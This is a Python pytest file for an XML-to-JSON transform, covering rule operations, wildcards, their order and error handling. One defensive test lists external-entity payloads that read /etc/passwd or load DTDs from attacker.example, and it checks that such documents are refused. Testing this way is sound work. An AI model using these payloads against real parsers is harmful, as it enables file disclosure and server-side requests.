"""transform_document: each rule operation alone, wildcards, the stated order, and failure modes."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import xmltodict
from hypothesis import given, settings
from hypothesis import strategies as st

from handlers.transform.rules import RuleApplicationError, load_rule_files, parse_rule_set
from handlers.transform.transform import MalformedDocumentError, transform_document
from samples.transform_documents import generate_catalog_xml, generate_orders_xml

RULES_DIR = Path(__file__).resolve().parents[3] / "rules"

ORDERS = b"""<?xml version="1.0" encoding="UTF-8"?>
<orders xmlns:geo="urn:geo">
  <order id="17" audit="x1">
    <item sku="A"><qty>2</qty><price currency="EUR">9.50</price></item>
    <paid>Yes</paid>
    <internalNote><![CDATA[<fragile> & heavy]]></internalNote>
    <geo:city>Malm\xc3\xb6</geo:city>
  </order>
  <order id="18">
    <item sku="B"><qty>1</qty><price currency="EUR">3</price></item>
    <item sku="C"><qty>4</qty><price currency="EUR">0.25</price></item>
    <paid>0</paid>
    <currency>SEK</currency>
  </order>
</orders>"""


def run(rules: dict[str, Any], xml: bytes = ORDERS) -> Any:
    return json.loads(transform_document(xml, parse_rule_set({"ruleId": "t", **rules})))


def test_without_rules_the_output_is_xmltodicts_json() -> None:
    assert run({}) == xmltodict.parse(ORDERS)


def test_force_list_makes_a_single_element_an_array() -> None:
    # GIVEN order 17 with one item and order 18 with two
    orders = run({"forceList": ["orders/order/item"]})["orders"]["order"]
    # THEN both orders hold a list of items
    assert [len(order["item"]) for order in orders] == [1, 2]
    assert orders[0]["item"][0]["@sku"] == "A"


def test_force_list_applies_only_to_its_path() -> None:
    # GIVEN an element of the same name elsewhere in the document
    xml = b"<r><a><item>1</item></a><b><item>2</item></b></r>"
    result = run({"forceList": ["r/a/item"]}, xml)
    assert result == {"r": {"a": {"item": ["1"]}, "b": {"item": "2"}}}


def test_remove_drops_elements_and_attributes() -> None:
    order = run({"remove": ["orders/order/internalNote", "orders/order/@audit"]})["orders"]["order"][0]
    assert "internalNote" not in order and "@audit" not in order and order["@id"] == "17"


@pytest.mark.parametrize(
    ("path", "type_name", "expected"),
    [
        ("orders/order/item/qty", "int", [2, 1, 4]),
        ("orders/order/item/price", "float", [9.5, 3.0, 0.25]),
    ],
)
def test_cast_converts_text_and_text_beside_attributes(
    path: str, type_name: str, expected: list[Any]
) -> None:
    orders = run({"forceList": ["orders/order/item"], "cast": {path: type_name}})["orders"]["order"]
    leaf = path.rsplit("/", 1)[1]
    values = [item[leaf] for order in orders for item in order["item"]]
    # price has a currency attribute, so its text sits under '#text'
    values = [value["#text"] if isinstance(value, dict) else value for value in values]
    assert values == expected and all(type(value) is type(expected[0]) for value in values)


def test_cast_bool_and_str() -> None:
    orders = run({"cast": {"orders/order/paid": "bool", "orders/order/@id": "str"}})["orders"]["order"]
    assert [order["paid"] for order in orders] == [True, False]
    assert [order["@id"] for order in orders] == ["17", "18"]


def test_cast_failure_names_path_value_and_type() -> None:
    with pytest.raises(RuleApplicationError) as caught:
        run({"cast": {"orders/order/geo:city": "int"}})
    assert "'orders/order/geo:city'" in str(caught.value) and "'Malmö'" in str(caught.value)


def test_default_is_added_only_where_missing() -> None:
    orders = run({"default": {"orders/order/currency": "EUR"}})["orders"]["order"]
    assert [order["currency"] for order in orders] == ["EUR", "SEK"]


def test_default_on_an_empty_or_text_only_parent() -> None:
    result = run({"default": {"r/a/x": 1, "r/b/x": 2}}, b"<r><a/><b>text</b></r>")
    assert result == {"r": {"a": {"x": 1}, "b": {"#text": "text", "x": 2}}}


def test_rename_renames_elements_and_attributes() -> None:
    order = run({"rename": {"orders/order/@id": "orderId", "orders/order/geo:city": "city"}})["orders"][
        "order"
    ][0]
    assert order["orderId"] == "17" and order["city"] == "Malmö"
    assert "@id" not in order and "geo:city" not in order


def test_root_selects_a_sub_tree() -> None:
    assert run({"root": "orders/order"}) == xmltodict.parse(ORDERS)["orders"]["order"]


def test_root_that_is_missing_or_repeated_is_an_error() -> None:
    with pytest.raises(RuleApplicationError, match="not in the document"):
        run({"root": "orders/invoice"})
    with pytest.raises(RuleApplicationError, match="passes through the repeated element 'orders/order'"):
        run({"root": "orders/order/item"})


def test_wildcard_matches_any_one_element() -> None:
    xml = b'<r><a><n x="1">1</n></a><b><n x="2">2</n></b><c><d><n>3</n></d></c></r>'
    result = run({"cast": {"r/*/n": "int"}, "remove": ["r/*/n/@x"]}, xml)
    assert result == {"r": {"a": {"n": 1}, "b": {"n": 2}, "c": {"d": {"n": "3"}}}}


def test_text_segment_addresses_the_text_beside_attributes() -> None:
    xml = b'<r><n unit="kg">2.5</n></r>'
    assert run({"cast": {"r/n/#text": "float"}}, xml) == {"r": {"n": {"@unit": "kg", "#text": 2.5}}}


def test_attribute_wildcard_matches_any_attribute_and_element_wildcard_none() -> None:
    xml = b'<r><a x="1" y="2"><k>v</k></a></r>'
    assert run({"remove": ["r/a/@*"]}, xml) == {"r": {"a": {"k": "v"}}}
    assert run({"remove": ["r/a/*"]}, xml) == {"r": {"a": {"@x": "1", "@y": "2"}}}


def test_exact_path_wins_over_wildcard() -> None:
    xml = b"<r><a><n>1</n></a><b><n>yes</n></b></r>"
    assert run({"cast": {"r/*/n": "int", "r/b/n": "bool"}}, xml) == {"r": {"a": {"n": 1}, "b": {"n": True}}}


def test_operations_use_original_names_in_the_stated_order() -> None:
    # GIVEN every operation aimed at paths written with the ORIGINAL names, including renamed ones
    rules = {
        "forceList": ["orders/order/item"],
        "remove": ["orders/order/internalNote", "orders/order/currency"],
        "cast": {"orders/order/item/qty": "int", "orders/order/@id": "int"},
        "default": {"orders/order/currency": "EUR"},
        "rename": {"orders/order/item": "items", "orders/order/@id": "orderId", "orders/order": "o"},
        "root": "orders/order",
    }
    # WHEN they are applied
    orders = run(rules)
    # THEN forceList (1) made arrays that rename (5) then renamed, cast (3) typed the renamed attribute,
    # and remove (2) happened before default (4), so every currency is the default; root (6) found the
    # renamed element through its original path
    assert [order["orderId"] for order in orders] == [17, 18]
    assert [[item["qty"] for item in order["items"]] for order in orders] == [[2], [1, 4]]
    assert [order["currency"] for order in orders] == ["EUR", "EUR"]
    assert all("internalNote" not in order for order in orders)


def test_default_added_under_a_renamed_child_name() -> None:
    result = run({"default": {"r/a/x": "d"}, "rename": {"r/a/x": "ex"}}, b"<r><a/><a><x>1</x></a></r>")
    assert result == {"r": {"a": [{"ex": "d"}, {"ex": "1"}]}}


def test_forced_list_survives_a_rename_to_an_existing_name() -> None:
    # GIVEN a forced element renamed to the name of a sibling that is not forced
    xml = b"<r><p><items>plain</items></p><q><item>1</item></q></r>"
    result = run({"forceList": ["r/q/item"], "rename": {"r/q/item": "items"}}, xml)
    # THEN only the forced path becomes a list
    assert result == {"r": {"p": {"items": "plain"}, "q": {"items": ["1"]}}}


def test_namespaces_cdata_and_mixed_content_keep_xmltodicts_shape() -> None:
    xml = b'<r xmlns:p="urn:p"><p:x><![CDATA[<b> & c]]></p:x><m>one <b>two</b> three</m></r>'
    assert run({}, xml) == {
        "r": {"@xmlns:p": "urn:p", "p:x": "<b> & c", "m": {"b": "two", "#text": "one  three"}}
    }


# A well-formed document the transform accepts, and declarations that, put before its root element, leave it
# well-formed (no entity is referenced): only refusing the declaration itself can refuse these documents.
DTD_FREE = b'<?xml version="1.0"?>\n<a><b>x</b></a>'
DTD_REFUSED = "^the document declares a DTD; DOCTYPE and ENTITY declarations are not accepted$"


@pytest.mark.parametrize(
    "declaration",
    [
        b"<!DOCTYPE a>",
        b'<!DOCTYPE a [<!ENTITY e "x">]>',
        b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE a SYSTEM "http://attacker.example/evil.dtd">',
        b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>',
    ],
)
def test_a_well_formed_document_that_declares_a_dtd_is_refused_for_its_dtd(declaration: bytes) -> None:
    # GIVEN a document the transform accepts, and the same document with a DTD between the XML
    # declaration and the root element
    assert run({}, DTD_FREE) == {"a": {"b": "x"}}
    with_dtd = DTD_FREE.replace(b"\n", b"\n" + declaration + b"\n")
    # WHEN the one with the DTD is transformed
    # THEN it is refused for declaring a DTD, not as malformed XML
    with pytest.raises(MalformedDocumentError, match=DTD_REFUSED):
        run({}, with_dtd)


def test_a_malformed_document_is_refused_naming_where_it_breaks() -> None:
    # GIVEN a document that closes the wrong element
    # WHEN it is transformed THEN it is refused as not well-formed, with expat's position and reason
    with pytest.raises(
        MalformedDocumentError,
        match=r"^the document is not well-formed XML at line 1, column 8: mismatched tag$",
    ):
        run({}, b"<a><b></a>")


def test_output_is_ascii_json_with_non_ascii_characters_intact() -> None:
    output = transform_document(ORDERS, parse_rule_set({"ruleId": "t"}))
    assert output.isascii()
    assert json.loads(output)["orders"]["order"][0]["geo:city"] == "Malmö"


def test_example_orders_rule_set_exercises_every_operation_on_the_sample() -> None:
    # GIVEN the shipped orders rule set and a generated orders document
    rules = load_rule_files(RULES_DIR)["orders-v1"]
    xml = generate_orders_xml(60_000)
    source = xmltodict.parse(xml)["orders"]["order"]
    # WHEN transformed
    orders = json.loads(transform_document(xml, rules))["order"]
    # THEN every operation visibly took effect
    assert len(orders) == len(source)
    assert all(isinstance(order["items"], list) for order in orders)  # forceList + rename
    assert any(isinstance(order["item"], dict) for order in source)  # ...where a single item was an object
    assert all("internalNote" not in order and "@audit" not in order for order in orders)  # remove
    assert all(isinstance(item["qty"], int) for order in orders for item in order["items"])  # cast
    assert all(isinstance(order["paid"], bool) for order in orders)
    assert all(isinstance(item["price"]["#text"], float) for order in orders for item in order["items"])
    assert sum("currency" not in order for order in source) > 0  # default
    assert all(order["currency"] in ("EUR", "SEK", "PLN") for order in orders)
    assert all(order["orderId"] == src["@id"] for order, src in zip(orders, source, strict=True))  # rename
    assert all(set(order["customer"]["address"]) == {"city", "country"} for order in orders)


def test_example_catalog_rule_set_flattens_the_catalog_sample() -> None:
    rules = load_rule_files(RULES_DIR)["catalog-flat"]
    products = json.loads(transform_document(generate_catalog_xml(40), rules))["products"]
    assert len(products) == 40
    assert all(isinstance(product["tags"]["tag"], list) for product in products)
    assert all(
        isinstance(product["price"], float) and isinstance(product["stock"], int) for product in products
    )
    assert all(isinstance(product["discontinued"], bool) for product in products)
    assert all("@internal" not in product and product["code"].startswith("P-") for product in products)


def test_a_single_product_catalog_still_yields_a_list() -> None:
    rules = load_rule_files(RULES_DIR)["catalog-flat"]
    assert len(json.loads(transform_document(generate_catalog_xml(1), rules))["products"]) == 1


names = st.sampled_from(["a", "b", "c", "ns:d"])


@st.composite
def documents(draw: st.DrawFn, depth: int = 0) -> str:
    name = draw(names)
    if depth >= 3 or draw(st.booleans()):
        text = draw(st.text(alphabet="xyz 12", max_size=4))
        return f"<{name}>{text}</{name}>"
    children = "".join(draw(st.lists(documents(depth + 1), min_size=1, max_size=3)))
    return f"<{name}>{children}</{name}>"


@settings(max_examples=60, deadline=None)
@given(body=documents(), forced=names)
def test_force_list_of_a_name_matches_xmltodicts_own_force_list(body: str, forced: str) -> None:
    # GIVEN any small document and a wildcard forceList of one element name at every depth
    xml = f"<root>{body}</root>".encode()
    paths = ["root/" + "/".join(["*"] * depth + [forced]) for depth in range(5)]
    # THEN the result equals xmltodict's own name-based force_list
    assert run({"forceList": paths}, xml) == xmltodict.parse(xml, force_list=(forced,))
